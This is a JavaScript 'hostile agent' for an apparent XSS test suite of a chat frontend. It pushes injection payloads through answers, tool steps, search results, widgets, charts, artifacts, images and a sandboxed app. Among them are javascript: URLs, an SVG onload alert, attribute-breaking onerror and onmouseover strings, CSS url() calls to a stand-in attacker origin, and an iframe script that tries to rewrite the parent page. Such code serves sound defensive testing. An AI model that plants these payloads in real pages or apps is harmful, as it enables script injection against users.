// A hostile agent for the XSS suite (`--agent e2e/agents/hostile.mjs`, assistant id `hostile`).
// Every answer carries the payloads through each channel the frame renders: answer text,
// reasoning, a tool step (title, input, output, error), a web-search result list (with favicons),
// a widget (text, markdown, labels, options, images, backgrounds, actions), an invalid widget and
// message image parts.
// The user's message (and so the thread title) is the suite's to choose.
import { payloads } from './payloads.mjs'

const EVIL = process.env.HOSTILE_EVIL_ORIGIN ?? 'http://127.0.0.1:9'
// The same attacker over https: (the scheme the frame CSP once allowed for images).
const HTTPS = EVIL.replace(/^http:/, 'https:')

function widget(list) {
  return {
    type: 'Card',
    background: `url(${HTTPS}/widget-bg.png?d=1)`,
    children: [
      { type: 'Image', src: `${HTTPS}/widget.png?d=the%20conversation`, alt: 'https widget image' },
      { type: 'Box', background: `red;background-image:url(${HTTPS}/widget-box.png?d=1)`, children: [{ type: 'Text', value: 'https box' }] },
      { type: 'Title', value: list[0], color: `red;background:url(${EVIL}/t.png)` },
      ...list.slice(0, 20).map((p) => ({ type: 'Text', value: p })),
      { type: 'Markdown', value: list.join('\n\n') },
      { type: 'Image', src: `javascript:window.__pwned=1`, alt: list[1] },
      { type: 'Image', src: 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4=' },
      { type: 'Badge', label: list[2], color: 'danger" onmouseover="alert(1)' },
      {
        type: 'Form',
        onSubmitAction: { type: 'hostile.submit', payload: { html: list[0] } },
        children: [
          { type: 'Input', name: 'x" onfocus="alert(1)', placeholder: list[3], defaultValue: list[4] },
          { type: 'Select', name: 'pick', options: list.slice(5, 10).map((p, i) => ({ value: p, label: p + i })) },
          { type: 'Label', value: list[10], fieldName: 'x"><img src=x onerror=alert(1)>' },
          { type: 'Button', label: list[11], submit: true, onClickAction: { type: 'hostile.click' } },
        ],
      },
    ],
  }
}

/** An MCP App that sends the frame JSON-RPC carrying payloads (initialize, a resize, a tool call, a link). */
function hostileApp(short) {
  const rpc = (m) => `parent.postMessage(${JSON.stringify({ jsonrpc: '2.0', ...m }).replace(/</g, '\\u003c')}, '*');`
  return `<!doctype html><p id="app">app</p><script>
let replies = 0
addEventListener('message', (e) => { if (e.source === parent) document.getElementById('app').textContent = 'frame messages: ' + ++replies })
try { parent.document.body.innerHTML = 'pwned' } catch (e) {}
try { top.__pwned = 1 } catch (e) {}
${rpc({ id: 1, method: 'ui/initialize', params: { protocolVersion: '2026-01-26', appInfo: { name: short[20], version: short[21] }, appCapabilities: {} } })}
${rpc({ method: 'ui/notifications/initialized' })}
${rpc({ method: 'ui/notifications/size-changed', params: { height: short[22] } })}
${rpc({ id: 2, method: 'tools/call', params: { name: short[23], arguments: { x: short[24] } } })}
${rpc({ id: 3, method: 'ui/open-link', params: { url: 'javascript:window.__pwned=1' } })}
${rpc({ id: 4, method: short[25], params: {} })}
</script>`
}

export default {
  id: 'hostile',
  name: 'Hostile test agent',
  async *run(ctx) {
    const list = payloads(EVIL)
    for (const p of list) yield { type: 'reasoning', text: p + '\n\n' }
    yield { type: 'tool_start', id: 'hostile-tool', name: list[2], title: list[0], input: { html: list[1], list } }
    yield { type: 'tool_end', id: 'hostile-tool', error: list[3] }
    yield { type: 'tool_start', id: 'hostile-search', name: 'web_search', title: list[4], input: { query: list[5] } }
    yield {
      type: 'tool_end',
      id: 'hostile-search',
      output: {
        results: list.map((p, i) => ({
          title: p,
          url: i % 2 ? `javascript:window.__pwned=${i}` : `${EVIL}/r${i}`,
          snippet: p,
          favicon: `${HTTPS}/favicon${i}.png?d=1`,
        })),
      },
    }
    yield { type: 'tool_start', id: 'hostile-program', name: 'run_program', title: list[6], input: { code: list.join('\n') } }
    yield { type: 'tool_end', id: 'hostile-program', output: { stdout: list.join('\n') } }
    for (const p of list) yield { type: 'text', text: p + '\n\n' }
    yield { type: 'widget', id: 'hostile-widget', title: list[7], widget: widget(list) }
    // Charts (issue 16): payloads as title, labels, series names and unit.
    const short = list.map((p) => p.slice(0, 200))
    yield {
      type: 'chart',
      id: 'hostile-chart',
      chart: {
        chartType: 'bar',
        title: short[9],
        unit: short[10].slice(0, 20),
        labels: short.slice(0, 8),
        series: [{ name: short[11], values: short.slice(0, 8).map((_, i) => i) }],
      },
    }
    yield {
      type: 'chart',
      id: 'hostile-pie',
      chart: { chartType: 'pie', title: short[12], labels: short.slice(8, 12), series: [{ name: short[13], values: [1, 2, 3, 4] }] },
    }
    // Artifacts (issue 16): payloads as the title (card and panel) and as Markdown content.
    yield { type: 'artifact', id: 'hostile-artifact', artifact: { kind: 'markdown', title: short[0], content: list.join('\n\n').slice(0, 200_000) } }
    // MCP Apps (issue 16): payloads as the tool's name and title, the app's resource URI and its
    // server; the app itself (run in the sandbox, where it may script) throws payloads at the frame.
    yield { type: 'tool_start', id: 'hostile-app', name: short[1], title: short[0], input: { q: short[16] } }
    yield {
      type: 'tool_end',
      id: 'hostile-app',
      output: {
        content: [{ type: 'text', text: short[17] }],
        ui: { uri: `ui://${short[2]}`, mimeType: 'text/html;profile=mcp-app', text: hostileApp(short), server: short[3] },
      },
    }
    yield { type: 'widget', id: 'hostile-invalid', widget: { type: 'Card', children: [{ type: list[0] }] } }
    yield { type: 'image', url: `${HTTPS}/message.png?d=the%20conversation` }
    yield { type: 'image', url: 'javascript:window.__pwned=1' }
    // Gallery (issue 16): alt text carries payloads, on loadable and on refused images.
    yield {
      type: 'image',
      url: 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
      alt: short[0],
    }
    yield { type: 'image', url: `${HTTPS}/alt.png?d=1`, alt: short[1] }
    yield { type: 'text', text: `\n\nEcho: ${ctx.input.text}` }
  },
}
